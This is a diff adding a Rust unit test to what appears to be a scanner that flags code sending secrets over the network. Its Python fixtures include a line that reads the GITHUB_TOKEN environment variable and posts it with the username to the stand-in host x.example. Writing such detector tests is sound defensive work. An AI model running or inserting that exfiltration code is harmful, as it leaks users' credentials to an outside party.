@@ -231,3 +231,26 @@ fn a_tainted_list_forgets_its_oldest_name_past_its_bound() {
     remember(&mut list, 101);
     assert_eq!((list.len(), list[0], list[MAX_NAMES - 1]), (MAX_NAMES, 1, 101));
 }
+
+#[test]
+fn an_assignment_whose_brackets_stay_open_holds_what_its_later_lines_read() {
+    // The first line ends with a comma, not a bracket: the secret is read
+    // on the second.
+    let body = block(
+        "python",
+        "payload = json.dumps({\"user\": getpass.getuser(),\n                      \"token\": os.environ[\"GITHUB_TOKEN\"]})\nrequests.post(\"https://x.example/c\", data=payload)",
+    );
+    assert_eq!(lines_of(&body, NET), [6]);
+    // Closed on its line, it holds only what it reads there.
+    let closed = block(
+        "python",
+        "payload = json.dumps({\"user\": getpass.getuser()})\nlog(os.environ[\"GITHUB_TOKEN\"])\nrequests.post(\"https://x.example/c\", data=payload)",
+    );
+    assert_absent(&closed, NET);
+    // A bracket inside a string opens nothing.
+    let quoted = block(
+        "python",
+        "sep = \"(\"\nt = os.environ[\"GITHUB_TOKEN\"]\nrequests.post(\"https://x.example/c\", data=sep)",
+    );
+    assert_absent(&quoted, NET);
+}
